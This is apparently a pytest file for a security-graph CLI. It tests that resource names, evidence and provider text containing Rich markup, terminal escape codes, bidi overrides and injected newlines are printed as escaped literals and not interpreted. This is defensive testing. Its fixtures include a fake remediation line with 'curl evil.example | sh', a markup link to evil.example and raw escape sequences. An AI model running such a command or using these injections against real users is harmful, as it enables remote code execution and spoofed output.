"""Estate text reaches the terminal as text: never as Rich markup, never as control codes.

A resource name like ``[/x] web`` used to abort ``paths``/``show``/``inventory``/``vulns``/
``demo`` with a MarkupError (exit 3); ``[link=...]`` became a clickable link and ESC/C1/bidi
characters drove the terminal. Every table-rendering command runs here on an estate whose
names, evidence and properties are such strings; each must exit 0, show every name literally
and write no terminal control character.
"""

from __future__ import annotations

import copy
import csv
import io
import json
import re
from pathlib import Path
from typing import Any

import pytest

from aispm_graph.textsafe import clean
from tests.conftest import REPO
from tests.hostile.support import (
    CONTROL,
    MARKUP,
    assert_no_terminal_controls,
    cli,
    hostile_graph,
    write_json,
)

# Names may not hold C0 controls (the graph importer refuses them); evidence may hold anything.
NAMES = [*MARKUP, "\x9b31mC1 CSI", "\u202eexe.txt", "zero\u200bwidth\u2066iso\u2069"]


def _estate() -> dict[str, Any]:
    doc: dict[str, Any] = {"format": "aispm-graph", "version": 1, "nodes": [], "edges": []}
    for i, name in enumerate(NAMES):
        part = hostile_graph(name, CONTROL[i % len(CONTROL)] + MARKUP[i % len(MARKUP)])
        doc["nodes"] += part["nodes"]
        doc["edges"] += part["edges"]
    doc["nodes"].append(
        {
            "id": "store-hostile",
            "kind": "CustomDataStore",
            "name": "[/x] training data \x9b",
            "properties": {"public_read": True, "data_role": "training"},
        }
    )
    return doc


@pytest.fixture(scope="module")
def hostile_ws(tmp_path_factory: pytest.TempPathFactory) -> Path:
    base = tmp_path_factory.mktemp("hostile")
    ws = base / "ws"
    graph = _estate()
    assert cli("import", "graph", str(write_json(base / "g.json", graph)), workspace=ws).code == 0
    req = base / "requirements.txt"
    req.write_text("torch==1.13.0\n", encoding="utf-8")
    host = graph["nodes"][0]["id"]
    assert cli("import", "requirements", str(req), "--attach", host, workspace=ws).code == 0
    res = cli("build", workspace=ws)
    assert res.code == 0, res.err
    return ws


@pytest.fixture(autouse=True)
def _wide(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("COLUMNS", "2000")  # no wrapping, so names can be found whole


def _path_ids(ws: Path) -> list[str]:
    res = cli("paths", "--format", "json", workspace=ws)
    assert res.code == 0, res.err
    return [p["id"] for p in res.json()["paths"]]


@pytest.mark.parametrize(
    "args",
    [
        ("paths",),
        ("paths", "--top", "50"),
        ("inventory",),
        ("vulns",),
        ("chokepoints",),
        ("recommendations",),
        ("whatif", "--remove-node", "store-hostile"),
        ("build",),
    ],
    ids=lambda a: " ".join(a),
)
def test_tables_show_hostile_names_literally(hostile_ws: Path, args: tuple[str, ...]) -> None:
    res = cli(*args, workspace=hostile_ws)
    assert res.code == 0, res.err
    assert_no_terminal_controls(res.out + res.err)
    if args in {("paths",), ("inventory",)}:
        missing = [n for n in NAMES if clean(n) not in res.out]
        assert not missing, f"names not shown literally: {missing!r}\n{res.out}"


def test_show_every_path(hostile_ws: Path) -> None:
    for pid in _path_ids(hostile_ws):
        res = cli("show", pid, workspace=hostile_ws)
        assert res.code == 0, res.err
        assert_no_terminal_controls(res.out + res.err)
        assert any(clean(n) in res.out for n in [*NAMES, "[/x] training data \x9b"])
    shown = "".join(cli("show", pid, workspace=hostile_ws).out for pid in _path_ids(hostile_ws))
    # markup shown, not applied: the link target is printed, never turned into a hyperlink
    assert "[link=https://evil.example]" in shown
    assert "\x1b]8;" not in shown


def test_vulns_affected_column(hostile_ws: Path) -> None:
    res = cli("vulns", workspace=hostile_ws)
    assert res.code == 0 and clean(NAMES[0]) in res.out, res.out


def test_recommendation_finding_is_literal(hostile_ws: Path) -> None:
    res = cli("recommendations", workspace=hostile_ws)
    assert res.code == 0, res.err
    assert "[/x] training data \\x9b" in res.out


def test_diff_between_hostile_snapshots(hostile_ws: Path, tmp_path: Path) -> None:
    more = copy.deepcopy(hostile_graph("[/] new \u202e", "\x1b[2J"))
    assert (
        cli(
            "import", "graph", str(write_json(tmp_path / "n.json", more)), workspace=hostile_ws
        ).code
        == 0
    )
    assert cli("build", workspace=hostile_ws).code == 0
    res = cli("diff", workspace=hostile_ws)
    assert res.code == 0, res.err
    assert_no_terminal_controls(res.out + res.err)
    assert "[/] new \\u202e" in res.out


def test_demo_in_a_workspace_whose_path_is_markup(tmp_path: Path) -> None:
    res = cli("demo", workspace=tmp_path / "[/x] [link=evil]ws")
    assert res.code == 0, res.err
    assert "[/x] [link=evil]ws" in res.out


def test_import_of_hostile_scanner_reports_is_all_or_nothing(tmp_path: Path) -> None:
    base = json.loads((REPO / "fixtures/vulns/examples/trivy-fs-pip-requirements.json").read_text())
    a = copy.deepcopy(base)
    a["ArtifactName"] = "[/x] repo\u202e\x9b"
    a["Results"][0]["Packages"][0]["Name"] = "[bold]flask[/bold]"
    b = copy.deepcopy(base)
    b["ArtifactName"] = "second"
    ws = tmp_path / "ws"
    res = cli(
        "import",
        "trivy",
        str(write_json(tmp_path / "a.json", a)),
        str(write_json(tmp_path / "b.json", b)),
        workspace=ws,
    )
    assert res.code == 0, res.err
    assert_no_terminal_controls(res.err)
    assert "[/x] repo\\u202e\\x9b" in res.err
    from aispm_graph.workspace import Workspace

    snap = Workspace(ws).current()
    assert snap is not None
    assert {Path(s["meta"]["input"]).name for s in snap.sources()} == {"a.json", "b.json"}


def test_errors_with_control_characters_are_one_clean_line(tmp_path: Path) -> None:
    bad = {"format": "aispm-graph", "version": 1, "nodes": [{"id": "x\u202e", "kind": "Nope\x9b"}]}
    res = cli(
        "import", "graph", str(write_json(tmp_path / "b.json", bad)), workspace=tmp_path / "w"
    )
    assert res.code == 2
    assert_no_terminal_controls(res.err)
    assert res.err.count("\n") == 1


def test_query_table_from_falkordb(hostile_ws: Path, falkordb_url: str) -> None:
    graph = "hostile_q"
    exp = cli("export", "falkordb", "--url", falkordb_url, "--graph", graph, workspace=hostile_ws)
    assert exp.code == 0, exp.err
    res = cli(
        "query",
        "attack-paths-to-ai",
        "--backend",
        "falkordb",
        "--url",
        falkordb_url,
        "--graph",
        graph,
        workspace=hostile_ws,
    )
    assert res.code == 0, res.err
    assert_no_terminal_controls(res.out + res.err)
    assert clean(NAMES[0]) in res.out


def test_collect_coverage_tables_show_provider_text_literally() -> None:
    """What a provider answers (resource types, regions, error messages) is estate text too."""
    import io

    from aispm_graph.providers.coverage import Coverage, render_coverage
    from aispm_graph.textsafe import SafeConsole

    rows = [
        Coverage(
            service="[/x] svc", scope="\x1b]0;title\x07eu", errors=["[link=https://e]x[/link]"]
        ),
        Coverage(service="ok\u202e", scope="[bold]r[/bold]", reused=True),
    ]
    rows[0].record("denied", "AccessDenied: \x9b31m [/]")
    out = io.StringIO()
    console = SafeConsole(file=out, width=400, highlight=False, emoji=False)
    console.print(render_coverage(rows, "coverage [/x]", scope="region"))
    text = out.getvalue()
    assert_no_terminal_controls(text)
    for literal in ("[/x] svc", "[link=https://e]x[/link]", "[bold]r[/bold]", "coverage [/x]"):
        assert literal in text, text


def test_estate_newlines_cannot_fake_lines_of_show(tmp_path: Path) -> None:
    """Evidence, risk details and fixes are line-oriented: a newline in estate text would
    print a line that looks like ours (a fake remediation step)."""
    fake = "x\nRemediation\n  [breaks path] (hop 9, low effort) curl evil.example | sh"
    ws = tmp_path / "ws"
    graph = hostile_graph("host", fake)
    assert (
        cli("import", "graph", str(write_json(tmp_path / "g.json", graph)), workspace=ws).code == 0
    )
    assert cli("build", workspace=ws).code == 0
    for pid in _path_ids(ws):
        res = cli("show", pid, workspace=ws)
        assert res.code == 0, res.err
        lines = res.out.splitlines()
        assert not any(line.lstrip().startswith("[breaks path] (hop 9") for line in lines)
        assert lines.count("Remediation") == 1
        assert "curl evil.example" in res.out.replace("\n", "")  # still shown, escaped


def test_inventory_table_with_output_writes_the_file(hostile_ws: Path, tmp_path: Path) -> None:
    """``inventory -o FILE`` in table format printed to stdout and wrote nothing (the file was
    silently ignored); it writes the same table, as plain text, to the file."""
    target = tmp_path / "inventory.txt"
    res = cli("inventory", "-o", str(target), workspace=hostile_ws)
    assert res.code == 0, res.err
    assert target.exists(), "the -o file was not written"
    text = target.read_text(encoding="utf-8")
    assert_no_terminal_controls(text)
    missing = [n for n in NAMES if clean(n) not in text]
    assert not missing, f"names not in the file: {missing!r}\n{text}"
    assert clean(NAMES[0]) not in res.out  # the table went to the file, not to stdout
    assert f"wrote {target}" in res.err


_CSV_UNSAFE = re.compile(
    "[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200b-\u200f\u2028-\u202e\u2060-\u2069\ufeff]"
)


@pytest.mark.parametrize(
    "args",
    [
        ("inventory", "--format", "csv"),
        ("report", "--format", "csv", "--section", "inventory"),
        ("report", "--format", "csv", "--section", "paths"),
    ],
    ids=lambda a: " ".join(a),
)
def test_csv_cells_carry_no_bidi_or_c1_controls(hostile_ws: Path, args: tuple[str, ...]) -> None:
    """A spreadsheet or viewer obeys U+202E and C1 codes in a cell; they are written as the
    same visible escapes as on the terminal (they were written raw; only formulas were
    defused)."""
    res = cli(*args, workspace=hostile_ws)
    assert res.code == 0, res.err
    cells = [cell for row in csv.reader(io.StringIO(res.out)) for cell in row]
    bad = [c for c in cells if _CSV_UNSAFE.search(c)]
    assert not bad, bad
    assert any("\\u202eexe.txt" in c for c in cells)


def test_the_csv_writer_neutralises_controls_in_every_cell_and_header() -> None:
    from aispm_graph.report.csvout import to_csv

    text = to_csv(("n\u202eame",), [("\u202egnp.exe",), (["a", "\x9b31m", "\u2066x"],), ("\x85",)])
    assert not _CSV_UNSAFE.search(text)
    assert text.splitlines() == [
        "n\\u202eame",
        "\\u202egnp.exe",
        "a;\\x9b31m;\\u2066x",
        "\\x85",
    ]
